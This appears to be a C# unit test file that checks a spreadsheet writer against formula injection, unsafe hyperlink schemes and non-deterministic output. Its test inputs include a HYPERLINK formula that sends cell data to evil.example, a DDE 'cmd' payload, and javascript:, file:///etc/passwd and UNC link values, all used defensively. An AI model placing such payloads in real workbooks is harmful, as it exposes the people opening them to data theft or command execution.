// What a hostile or careless transcript must not do to the workbook: text that starts like a
// formula stays text even when the analyst edits the cell (quotePrefix), links go only to
// http(s) and mailto addresses, and the same input gives the same file byte for byte.
using System;
using System.IO;
using System.IO.Compression;
using System.Linq;
using System.Threading.Tasks;
using BriefingKit.Excel.Internal;
using BriefingKit.Excel.Tests.Support;
using DocumentFormat.OpenXml.Spreadsheet;
using static BriefingKit.Excel.Tests.Support.Sample;

namespace BriefingKit.Excel.Tests.Safety;

public sealed class WriterSafetyTests
{
    private static readonly DateTime Thursday = new(2021, 4, 15);

    [Theory]
    [InlineData("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", true)]
    [InlineData("+1+cmd|' /C calc'!A0", true)]
    [InlineData("-2+3", true)]
    [InlineData("@SUM(1,2)", true)]
    [InlineData("  =1+1", true)]
    [InlineData("The minister said = is not a formula here", false)]
    [InlineData("", false)]
    public void LooksLikeFormula_TheCharactersExcelStartsAFormulaWith(string text, bool expected) =>
        Assert.Equal(expected, FormulaText.LooksLikeFormula(text));

    [Fact]
    public async Task Write_FormulaLikeEvidence_IsTextWithQuotePrefixAndPlainTextIsNot()
    {
        const string attack = "=HYPERLINK(\"http://evil.example/\",\"click me\")";
        var bytes = await WriteAsync(new[] { Event("a", Thursday, P("United States", "ukraine", Stance.Urge, 7, evidence: attack), P("Russia", "ukraine", Stance.Reject, 9, "s2")) });

        using var xlsx = Xlsx.Open(bytes);
        var row = xlsx.Rows("Positions").Single(r => r["Actor"] == "United States");
        var cell = xlsx.TableCell("Positions", "Key", row["Key"], "Evidence")!;
        Assert.Equal(CellValues.SharedString, cell.DataType!.Value);
        Assert.Null(cell.CellFormula);
        Assert.Equal(attack, xlsx.Text(cell));
        Assert.True(FormatOf(xlsx, cell).QuotePrefix?.Value, "formula-like text must have a quotePrefix style");

        var plain = xlsx.TableCell("Positions", "Key", xlsx.Rows("Positions").Single(r => r["Actor"] == "Russia")["Key"], "Evidence")!;
        Assert.NotEqual(true, FormatOf(xlsx, plain).QuotePrefix?.Value);
        Assert.DoesNotContain(xlsx.Sheet("Positions").Worksheet.Descendants<Cell>(), c => c.CellFormula is not null);
    }

    [Theory]
    [InlineData("javascript:alert(1)", false)]
    [InlineData("file:///etc/passwd", false)]
    [InlineData("\\\\server\\share\\x.docx", false)]
    [InlineData("mailto:press@example.gov", true)]
    [InlineData("https://example.gov/a", true)]
    public async Task Write_SourceUrl_IsALinkOnlyForHttpAndMailto(string url, bool linked)
    {
        var bytes = await WriteAsync(new[] { Event("a", Thursday, P("United States", "ukraine", Stance.Urge, 7)) with { Url = url } });

        using var xlsx = Xlsx.Open(bytes);
        var targets = xlsx.Workbook.WorksheetParts.SelectMany(p => p.HyperlinkRelationships).Select(r => r.Uri.OriginalString).ToList();
        if (linked) Assert.Contains(targets, t => t.StartsWith(url.Substring(0, 6), StringComparison.Ordinal));
        else Assert.Empty(targets);
    }

    [Fact]
    public async Task Write_Twice_GivesTheSameBytesWithFixedEntryTimes()
    {
        var transcripts = new[] { Event("a", Thursday, P("United States", "ukraine", Stance.Urge, 7), P("Russia", "ukraine", Stance.Reject, 9, "s2")) };

        var first = await WriteAsync(transcripts);
        var second = await WriteAsync(transcripts);

        Assert.Equal(first, second);
        using (Xlsx.Open(first))
        {
        }
        using var zip = new ZipArchive(new MemoryStream(first), ZipArchiveMode.Read);
        Assert.All(zip.Entries, e => Assert.Equal(1980, e.LastWriteTime.Year));
    }

    [Fact]
    public async Task Update_Twice_GivesTheSameBytes()
    {
        var old = await WriteAsync(new[] { Event("a", Thursday, P("United States", "ukraine", Stance.Urge, 7)) });
        var week = new[] { Event("b", Thursday.AddDays(7), P("Russia", "syria", Stance.Agree, 3, "s2")) };

        var first = await UpdateAsync(old, week);
        var second = await UpdateAsync(old, week);

        Assert.Equal(first, second);
        using (Xlsx.Open(first))
        {
        }
    }

    private static CellFormat FormatOf(Xlsx xlsx, Cell cell) =>
        xlsx.Workbook.WorkbookStylesPart!.Stylesheet!.CellFormats!.Elements<CellFormat>().ElementAt((int)(cell.StyleIndex?.Value ?? 0));
}
